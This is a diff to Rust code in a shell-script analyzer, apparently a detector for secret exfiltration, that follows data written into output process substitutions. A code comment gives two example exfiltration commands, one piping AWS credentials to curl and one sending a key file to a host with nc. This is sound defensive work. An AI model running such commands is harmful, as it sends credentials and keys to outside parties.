@@ -1762,6 +1762,31 @@ fn analyze_with_copies(script: &Script, copies: std::collections::HashSet<String
                 }
             }
         }
+        // `cat ~/.aws/credentials | tee >(curl -d @- URL)`, `cat KEY > >(nc host 9)`: a sender
+        // inside an output process substitution reads what the command naming it writes there.
+        if !ignores_stdin(cmd) {
+            for &sub in &cmd.within {
+                if script.substitutions[sub].kind != crate::shell::ir::SubstKind::ProcessOut {
+                    continue;
+                }
+                let writer = script.commands.iter().enumerate().find(|(_, w)| {
+                    !w.within.contains(&sub)
+                        && (w.argv.iter().any(|a| a.subs.contains(&sub))
+                            || w.redirects.iter().any(|r| r.target.subs.contains(&sub)))
+                });
+                if let Some((widx, writer)) = writer {
+                    keep(command_source(script, writer));
+                    keep(
+                        writer
+                            .redirects
+                            .iter()
+                            .find(|r| r.op == "<" && secret_at(writer, &r.target.text))
+                            .map(|r| (Secret::File, r.target.text.clone())),
+                    );
+                    keep(upstream.before(script, widx, writer));
+                }
+            }
+        }
         // Under xargs the piped text becomes arguments (judged with the wrapper above).
         let under_xargs = cmd
             .wrapped_by
